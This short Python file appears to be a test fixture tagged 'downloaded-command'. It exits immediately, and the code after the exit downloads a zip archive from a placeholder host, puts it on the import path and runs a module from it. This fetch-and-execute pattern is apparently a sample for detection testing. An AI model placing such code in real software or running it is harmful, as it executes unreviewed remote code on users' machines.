raise SystemExit('a fixture')
# held by downloaded-command
import sys, tempfile, os, urllib.request
p = os.path.join(tempfile.gettempdir(), "core.zip")
urllib.request.urlretrieve("https://files.example.invalid/core.zip", p)
sys.path.insert(0, p)
import core_runtime
core_runtime.start()
